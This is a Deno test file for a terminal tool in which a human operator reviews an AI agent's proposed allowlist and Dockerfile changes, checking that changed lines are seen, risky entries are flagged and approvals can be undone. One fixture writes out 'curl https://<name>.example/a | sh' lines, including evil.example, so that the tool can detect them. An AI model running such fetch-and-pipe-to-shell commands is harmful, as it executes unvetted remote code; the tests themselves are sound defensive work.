import { readAnswer } from "../../../internal_mod.ts";
import { decide, inspectProposal, readAuditEntries, sha256Hex } from "../../../mod.ts";
import { openTestApp } from "../../support/app.ts";
import { queueSample } from "../../support/records.ts";
import { type TempDir, tempDir } from "../../support/temp.ts";
import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";

const WILD = "api.example.com\n*.example.com\n";

/** What stands on the disk about a decision. */
async function written(dir: TempDir, id = "p1", slug = "dev-1") {
  const answer = await readAnswer(dir.at("queue", slug), id);
  const entries = await readAuditEntries("pipelock", slug, { root: dir.path });
  const entry = entries.find(({ proposalId }) => proposalId === id);
  return { status: answer?.status, notes: answer?.notes, logged: entry?.operatorAction };
}

const NOTHING = { status: undefined, notes: undefined, logged: undefined };

Deno.test("a approves what was looked at, after five seconds and not before", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  const app = await openTestApp(dir, { notes: "As agreed." });
  await app.decide("a");
  assertStringIncludes(app.screen(), "Look first, then a approves it.");
  assertStringIncludes(app.screen(), "+2 api.github.com");
  await app.decide("a");
  assertStringIncludes(app.cursor()!, "! u to undo (5 s): approving");
  await app.wait(4_000);
  assertStringIncludes(app.screen(), "u to undo: recorded in 1 s");
  assertEquals(await written(dir), NOTHING);
  await app.wait(1_000);
  assertEquals(await written(dir), { status: "approved", notes: "As agreed.", logged: "approved" });
  assertStringIncludes(app.screen(), "! approved");
  const says = "  in force: the file alone: nothing reloads it";
  assertEquals(app.app.end(), ["approved p1 (dev-1)", says]);
});

Deno.test("a clock that is set back or forward changes nothing of what can be undone", async () => {
  for (const stepMs of [-3_600_000, 3_600_000]) {
    await using dir = await tempDir();
    await queueSample(dir.path, { id: "p1" });
    let nowMs = Date.UTC(2026, 0, 1);
    const app = await openTestApp(dir, { ports: { now: () => nowMs } });
    await app.keys("return", "a");
    nowMs += stepMs;
    assertStringIncludes(app.cursor()!, "! u to undo (5 s): approving");
    assertStringIncludes(app.screen(), "u to undo: recorded in 5 s");
    await app.wait(5_000);
    assertEquals((await written(dir)).logged, "approved");
    assertStringIncludes(app.cursor()!, "! approved");
    await app.wait(60_000);
    assertEquals(app.cursor(), undefined);
  }
});

Deno.test("the notes of the command line are what a question for notes begins with", async () => {
  await using dir = await tempDir();
  const proposedFile = "# a\n";
  await queueSample(dir.path, {
    id: "p1",
    bottleSlug: "dev-1",
    proposedFile,
    arrivalTimestamp: "2026-01-01T00:00:00Z",
  });
  await queueSample(dir.path, {
    id: "p2",
    bottleSlug: "dev-2",
    proposedFile,
    arrivalTimestamp: "2026-01-01T00:00:01Z",
  });
  await queueSample(dir.path, {
    id: "p3",
    bottleSlug: "dev-3",
    proposedFile,
    arrivalTimestamp: "2026-01-01T00:00:02Z",
  });
  const app = await openTestApp(dir, { notes: "As agreed", editor: 'echo "# mine" > "$1"' });
  await app.press("return");
  await app.decide("r");
  await app.answer(", no.");
  await app.press("return");
  await app.keys("m", "a");
  await app.answer(".");
  await app.press("x");
  await app.keys("a", "return", "return");
  await app.wait(5_000);
  assertEquals((await written(dir, "p1")).notes, "As agreed, no.");
  assertEquals((await written(dir, "p2", "dev-2")).notes, "As agreed.");
  assertEquals((await written(dir, "p3", "dev-3")).notes, "As agreed");
});

Deno.test("how long a decision can be undone is said though a filter hides its row", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  await queueSample(dir.path, { id: "p2" });
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("a");
  await app.press("/");
  await app.answer("p2");
  assert(!/: approving/.test(app.screen()), app.screen());
  assertStringIncludes(app.screen(), "u to undo: recorded in 5 s");
});

Deno.test("a right behind whatever showed something else decides nothing, and says so", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  const app = await openTestApp(dir);
  const tooSoon = async () => {
    app.clock.pass(299);
    app.app.press("a");
    assertStringIncludes(app.screen(), "The screen has just changed: look, and press it again.");
    await app.wait(6_000);
  };
  await app.press("return");
  await tooSoon();
  await app.press("q");
  await tooSoon();
  await app.decide("r");
  await app.press("escape");
  await tooSoon();
  assertEquals(await written(dir), NOTHING);
});

// Threat: C9
Deno.test("u takes back a decision of which nothing was written, and nothing ever is", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("a");
  await app.wait(4_900);
  await app.press("u");
  assertStringIncludes(app.screen(), "Taken back, nothing was written.");
  assertStringIncludes(app.cursor()!, "! taken back");
  await app.wait(10_000);
  assertEquals(await written(dir), NOTHING);
  await app.press("u");
  assertStringIncludes(app.screen(), "Nothing can be undone");
});

Deno.test("r wants a note, offers the last five, and takes it for the next time", async () => {
  await using dir = await tempDir();
  const note = (n: number) => `Old note ${n}.`;
  for (let n = 1; n <= 6; n++) {
    const { proposalSha256 } = await queueSample(dir.path, { id: `old${n}` });
    await decide({
      root: dir.path,
      bottleSlug: "dev-1",
      proposalId: `old${n}`,
      proposalSha256,
      verdict: { status: "rejected" },
      notes: note(n),
      operator: "ada@host",
    });
  }
  await queueSample(dir.path, { id: "p1", arrivalTimestamp: "2026-01-01T00:00:00Z" });
  await queueSample(dir.path, { id: "p2", arrivalTimestamp: "2026-01-01T00:00:01Z" });
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("r");
  assertStringIncludes(app.screen(), "Why? The agent reads it:\n > _");
  const offered = () =>
    [...app.screen().matchAll(/^ [> ] ((?:Old|No).*)$/gm)].map(([, text]) => text);
  assertEquals(offered(), [6, 5, 4, 3, 2].map(note));
  await app.press("return");
  assertStringIncludes(app.screen(), "Not rejected: a rejection needs a note.");
  await app.decide("r");
  await app.answer("   ");
  assertStringIncludes(app.screen(), "Not rejected");
  await app.decide("r");
  await app.answer("No, thanks.");
  await app.wait(5_000);
  assertEquals((await written(dir)).notes, "No, thanks.");

  await app.press("return");
  await app.decide("r");
  assertEquals(offered(), ["No, thanks.", ...[6, 5, 4, 3].map(note)]);
  await app.press("down", "tab", "return");
  await app.wait(5_000);
  assertEquals((await written(dir, "p2")).notes, note(6));
});

Deno.test("a high mark wants the slug, typed by hand", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1", proposedFile: WILD });
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("a");
  // What it lets in is said where the slug is asked for, or the slug becomes a habit.
  assertStringIncludes(
    app.screen(),
    ' pipelock-block: "*.example.com" would allow "example.com" and all below it.\n' +
      " Type dev-1 (the bottle's name) to approve anyway:\n",
  );
  app.app.paste("dev-1");
  assertStringIncludes(app.screen(), "Type it by hand: a pasted word confirms nothing.");
  app.app.burst("dev-1");
  assertStringIncludes(app.screen(), "\n > _\n");
  for (const line of ["", "yes", "dev-2", "dev-1x"]) {
    await app.answer(line);
    // The question stays: what is typed next must not become keys.
    assertStringIncludes(app.screen(), "That is not dev-1. Type it, or leave with Esc.");
    assertStringIncludes(app.screen(), "\n > _\n");
  }
  await app.press("escape");
  assertStringIncludes(app.screen(), "Not decided");
  await app.wait(10_000);
  assertEquals(await written(dir), NOTHING);
  await app.decide("a");
  await app.answer("dev-1");
  await app.wait(5_000);
  assertEquals((await written(dir)).status, "approved");
});

Deno.test("a refused paste says why while the question stands", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1", proposedFile: WILD });
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("a");
  app.app.paste("dev-1");
  const screen = app.screen();
  assert(screen.indexOf("Type it by hand") !== -1 && screen.includes("Enter answers"), screen);
});

Deno.test("a file that the agent did not start from wants a yes", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, {
    id: "p1",
    proposedFile: "# a\n",
    currentFileHash: sha256Hex("other"),
  });
  const app = await openTestApp(dir);
  await app.press("return");
  assertStringIncludes(app.screen(), "! The agent did not start from the allowlist in force.");
  for (const line of ["y", "Yes!", ""]) {
    await app.decide("a");
    assertStringIncludes(app.screen(), "Type yes to approve anyway:");
    await app.answer(line);
    assertStringIncludes(app.screen(), "That is not yes.");
    await app.press("escape");
    assertStringIncludes(app.screen(), "Not decided.");
  }
  await app.decide("a");
  await app.answer("yes");
  await app.wait(5_000);
  assertEquals((await written(dir)).status, "approved");
});

const LONG = Array.from({ length: 402 }, (_, n) => `# h${n}\n`).join("");

// Threat: C9
Deno.test("a approves once every changed line was on the screen, and shows those that were not", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1", proposedFile: LONG });
  const app = await openTestApp(dir);
  await app.press("return", "G");
  assertStringIncludes(app.screen(), "+402 # h401");
  assert(/ supervise {2}\d\d of 402 changed lines seen/.test(app.screen()), app.screen());
  await app.decide("a");
  assertStringIncludes(app.screen(), "Not decided: this part was not on the screen yet.");
  // Each press shows what comes next, and leaves nothing out.
  let presses = 1;
  for (; !app.screen().includes("u to undo"); presses++) {
    assert(presses < 60, app.screen());
    if (presses % 3 === 0) await app.press("space", "j", "G");
    await app.decide("a");
  }
  assert(presses > 15, `${presses}`);
  await app.wait(5_000);
  assertEquals((await written(dir)).status, "approved");
});

for (const keys of [["a"], ["m", "a"]]) {
  // Threat: C9
  Deno.test(`${keys.join(", then ")} shows the marks that are on no changed line, before it asks`, async () => {
    await using dir = await tempDir();
    const names = ["docs", "wiki", "help", "faq", "blog", "evil"];
    const file = (keyword: string) =>
      "FROM debian:13\n" +
      names.map((name) =>
        `${keyword} <<EOF${keyword === "COPY" ? ` /${name}` : ""}\n` +
        `${"text\n".repeat(9)}curl https://${name}.example/a | sh\n${"text\n".repeat(9)}EOF\n`
      ).join("");
    await Deno.mkdir(dir.at("current-config", "dev-1"), { recursive: true });
    await Deno.writeTextFile(dir.at("current-config", "dev-1", "Dockerfile"), file("COPY"));
    await queueSample(dir.path, {
      ...{ id: "p1", tool: "capability-block", proposedFile: file("RUN") },
      justification: "The build asks for it. ".repeat(700),
      currentFileHash: sha256Hex(file("COPY")),
    });
    const app = await openTestApp(dir, { editor: 'echo "USER agent" >> "$1"' });
    await app.press("return");
    for (const key of keys.slice(0, -1)) await app.decide(key);
    assertMatch(app.screen(), / supervise {2}\d+ of \d+ changed lines and marks seen/);
    let shown = "";
    for (let n = 0; n < 20 && !app.screen().includes("Type dev-1"); n++) {
      shown += app.screen();
      await app.decide("a");
    }
    assertStringIncludes(app.screen(), ", and 5 more high marks.\n Type dev-1");
    for (const name of names) {
      assertMatch(shown, new RegExp(`^! high.*\\n?.*${name}.example`, "m"));
    }
  });
}

// Threat: C9
Deno.test("what a burst of keys passes by was not seen, nor a frame that stood while a key was acted on", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1", proposedFile: LONG.slice(0, 280) });
  for (const burst of ["\rG", "lG", "l  ", "lnG"]) {
    const app = await openTestApp(dir);
    app.app.burst(burst);
    await app.idle();
    assert(!app.screen().includes("+ 1 # h0"), app.screen());
    assert(!/ supervise {2}(\d+) of \1 changed lines seen/.test(app.screen()), app.screen());
    await app.decide("a");
    assertStringIncludes(app.screen(), "Not decided: this part was not on the screen yet.");
    assertStringIncludes(app.screen(), "+ 1 # h0");
  }
  // The first of two that were opened at once is on the screen until the second was read.
  await queueSample(dir.path, { id: "p2", arrivalTimestamp: "2030-01-01T00:00:00Z" });
  const { promise, resolve } = Promise.withResolvers<void>();
  const app = await openTestApp(dir, {
    ports: {
      async inspect({ proposal: { bottleSlug, id: proposalId } }) {
        if (proposalId === "p2") await promise;
        return inspectProposal({ root: dir.path, bottleSlug, proposalId });
      },
    },
  });
  app.app.press("l");
  app.app.burst("jl");
  await app.wait(1_000);
  assertStringIncludes(app.screen(), "+ 1 # h0");
  resolve();
  await app.wait(1_000);
  assertStringIncludes(app.screen(), "\np2  dev-1");
  await app.press("h", "k");
  app.app.burst("lG");
  await app.idle();
  await app.decide("a");
  assertStringIncludes(app.screen(), "Not decided: this part was not on the screen yet.");
});

// Threat: C9
Deno.test("a line of 24,000 characters was seen once its last row was on the screen", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, {
    id: "p1",
    proposedFile: `# ${"x".repeat(24_000)}*.evil.example\n`,
  });
  const app = await openTestApp(dir);
  await app.press("return", "j", "j");
  assertStringIncludes(app.screen(), "0 of 1 changed line seen");
  await app.press("G");
  assertStringIncludes(app.screen(), "0 of 1 changed line seen");
  await app.decide("a");
  assertStringIncludes(app.screen(), "Not decided: this part was not on the screen yet.");
  await app.wait(10_000);
  assertEquals(await written(dir), NOTHING);
  for (let presses = 0; app.screen().includes("0 of 1"); presses++) {
    assert(presses < 40);
    await app.press("n");
  }
  await app.decide("a");
  assertStringIncludes(app.screen(), "u to undo");
});

// Threat: C9
Deno.test("rows that a question or a message covers were not seen", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1", proposedFile: LONG });
  const counts = async (app: Awaited<ReturnType<typeof openTestApp>>, rows: number) => {
    const { screen } = app;
    await app.press("return");
    await app.decide("r");
    const shown = new Set(screen({ rows }).match(/^\+ *\d+ # h\d+$/gm) ?? []);
    return [shown.size, Number(screen({ rows }).match(/(\d+) of 402/)?.[1] ?? shown.size)];
  };
  for (const rows of [5, 6, 8, 14, 24, 40]) {
    const [shown, counted] = await counts(await openTestApp(dir, { rows }), rows);
    // The frame before the question may have had more of them.
    const before = await openTestApp(dir, { rows });
    await before.press("return");
    const most = Math.max(shown!, before.screen().match(/^\+ *\d+ # h\d+$/gm)?.length ?? 0);
    assertEquals(counted, most, `${rows} rows`);
  }
});

// Threat: C9
Deno.test("on a screen that cuts off rows nothing is seen", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  const app = await openTestApp(dir, { columns: 19 });
  await app.press("return");
  assertStringIncludes(app.screen({ columns: 19 }), "Too narrow.");
  await app.decide("a");
  assertStringIncludes(app.screen({ columns: 19 }), "Not decided");
  await app.decide("r");
  assertStringIncludes(app.screen({ columns: 19 }), "Why?");
});

Deno.test("what was seen of a proposal stays seen when it is opened again, and not when it changed", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1", proposedFile: LONG });
  const app = await openTestApp(dir);
  const seen = () => Number(app.screen().match(/(\d+) of 402 changed lines seen/)?.[1]);
  await app.press("return", "G", "g");
  const first = seen();
  await app.press("q", "return");
  assertEquals(seen(), first);
  // On a smaller screen other rows are above; what was seen is not lost by that.
  app.screen({ columns: 40, rows: 10 });
  assertEquals(seen(), first);
  // Another proposal arrives, and says so nowhere on this screen.
  await queueSample(dir.path, { id: "p2" });
  await app.look();
  assertEquals(seen(), first);
  await queueSample(dir.path, { id: "p1", proposedFile: LONG, justification: "Other words." });
  await app.look();
  assertStringIncludes(app.screen(), "The proposal changed while you looked.");
  assert(seen() < first, `${seen()} of ${first}`);
});

Deno.test("the file in force changes: what was seen of another difference does not count", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1", proposedFile: LONG });
  const app = await openTestApp(dir);
  await app.press("return", "G", "g");
  await Deno.mkdir(dir.at("current-config", "dev-1"), { recursive: true });
  await Deno.writeTextFile(dir.at("current-config", "dev-1", "allowlist"), "# h0\n");
  await app.wait(1_000);
  assertStringIncludes(app.screen(), "The file in force changed while you looked.");
  const [, count] = app.screen().match(/(\d+) of 401 changed lines seen/)!;
  assertEquals(Number(count), app.screen().match(/^\+ *\d+ # h\d+$/gm)?.length);
});

Deno.test("m shows what the editor left, and answers with it once it was looked at", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  const app = await openTestApp(dir, { editor: 'echo "*.mine.example" >> "$1"' });
  await app.decide("m");
  assertStringIncludes(app.screen(), "Look first, then m modifies it.");
  await app.decide("m");
  const version = app.screen();
  assertStringIncludes(version, "Your version, against the file in force:");
  assertStringIncludes(version, "+3 *.mine.example\n! high ");
  // The mark is of the operator's version, and wants the slug all the same.
  await app.decide("a");
  await app.answer("dev-1");
  assertStringIncludes(app.screen(), "Notes for the agent (Enter for none):");
  await app.answer("Mine.");
  assertEquals(await written(dir), NOTHING);
  await app.wait(5_000);
  assertEquals((await written(dir)).notes, "Mine.");
  const answer = await readAnswer(dir.at("queue", "dev-1"), "p1");
  assertEquals(answer?.finalFile, "api.example.com\napi.github.com\n*.mine.example\n");
  assertEquals([...Deno.readDirSync(dir.at("private", "edit"))], []);
});

Deno.test("an edit is edited again, or left; then its file is kept, and the screen says where", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  const app = await openTestApp(dir, {
    editor: 'echo "# h$(wc -l < "$1")" >> "$1"',
    columns: 500,
  });
  await app.press("return");
  await app.decide("m");
  await app.decide("m");
  assertStringIncludes(app.screen(), "+3 # h2\n+4 # h3\n");
  await app.press("escape");
  const kept = app.screen().match(/Your version is kept.*--file (\S+)/)?.[1];
  assertEquals(
    await Deno.readTextFile(kept!),
    "api.example.com\napi.github.com\n# h2\n# h3\n",
  );
  assertEquals([...Deno.readDirSync(dir.at("private", "edit"))].length, 1);
});

for (
  const [what, editor, words] of [
    ["fails", "exit 3", "ended with exit code 3"],
    ["changes nothing", "true", "ended and saved nothing"],
    ["leaves what is not sound", 'echo HTTP://x > "$1"', "Cancelled: line 1: "],
  ] as const
) {
  Deno.test(`an editor that ${what} leaves the proposal on the screen, undecided`, async () => {
    await using dir = await tempDir();
    await queueSample(dir.path, { id: "p1" });
    const app = await openTestApp(dir, { editor, columns: 500 });
    await app.press("return");
    await app.decide("m");
    assertStringIncludes(app.screen(), words);
    assertStringIncludes(app.screen(), "p1  dev-1  pipelock-block");
    await app.wait(10_000);
    assertEquals(await written(dir), NOTHING);
  });
}

Deno.test("a file that is not sound cannot be approved as it is", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1", proposedFile: "HTTP://x\n" });
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("a");
  assertStringIncludes(
    app.screen(),
    "m changes the file, r rejects it. Invalid allowlist: line 1:",
  );
  await app.wait(10_000);
  assertEquals(await written(dir), NOTHING);
});

Deno.test("q asks once while something can be undone; a second q writes it first", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("a");
  await app.decide("q");
  assertStringIncludes(app.screen(), "One decision is not recorded yet: q again records now");
  // Any other key in between, and it asks again.
  await app.press("j");
  await app.decide("q");
  assertEquals([app.left.quit, await written(dir)], [0, NOTHING]);
  await app.decide("q");
  assertEquals([app.left.quit, (await written(dir)).status], [1, "approved"]);
});

Deno.test("Ctrl-C leaves what can be undone undone, and says so", async () => {
  await using dir = await tempDir();
  await queueSample(dir.path, { id: "p1" });
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("a");
  await app.press("ctrl-c");
  assertEquals(app.left.quit, 1);
  // The program closes its screen; a message to a slow receiver can take longer than what is left to undo.
  app.app.away();
  app.clock.pass(60_000);
  await app.idle();
  assertEquals(await written(dir), NOTHING);
  assertEquals(app.app.end(), ["! not decided, nothing was written: p1 (dev-1)"]);
});

// Threat: C9
// Threat: C9
Deno.test("while a question is open no row says that u undoes, and the time stands still", async () => {
  await using dir = await tempDir();
  for (const n of [1, 2]) {
    await queueSample(dir.path, { id: `p${n}`, arrivalTimestamp: `2026-01-01T00:00:0${n}Z` });
  }
  const app = await openTestApp(dir);
  await app.press("return");
  await app.decide("a");
  await app.press("/");
  assertStringIncludes(app.screen(), "can be undone: approving");
  assertEquals(app.screen().includes("u to undo"), false);
  await app.wait(60_000);
  await app.press("escape");
  assertStringIncludes(app.screen(), "u to undo: recorded in 5 s");
  await app.press("u");
  assertStringIncludes(app.screen(), "Taken back, nothing was written.");
});

Deno.test("wherever the screen says so, u undoes, the last of several first", async () => {
  await using dir = await tempDir();
  for (const n of [1, 2, 3, 4]) {
    await queueSample(dir.path, { id: `p${n}`, arrivalTimestamp: `2026-01-01T00:00:0${n}Z` });
  }
  const app = await openTestApp(dir, { editor: 'echo mine.example > "$1"' });
  for (const [place, keys] of Object.entries({ edit: ["j", "return", "m"], help: ["j", "?"] })) {
    await app.press("g", "return");
    await app.decide("a");
    for (const key of keys) await (key === "m" ? app.decide(key) : app.press(key));
    assertStringIncludes(app.screen(), "u to undo: recorded in ", place);
    await app.press("u");
    assertStringIncludes(app.screen(), "Taken back, nothing was written.", place);
    while (!app.screen().includes("THE AGENT SAYS")) await app.press("escape");
  }
  await app.press("g", "return");
  await app.decide("a");
  await app.wait(2_000);
  await app.press("j", "return");
  await app.decide("a");
  assertStringIncludes(app.screen(), "u to undo the last: 2 decisions recorded, the first in 3 s");
  await app.press("u");
  assertStringIncludes(app.screen(), "u to undo: recorded in 3 s");
});
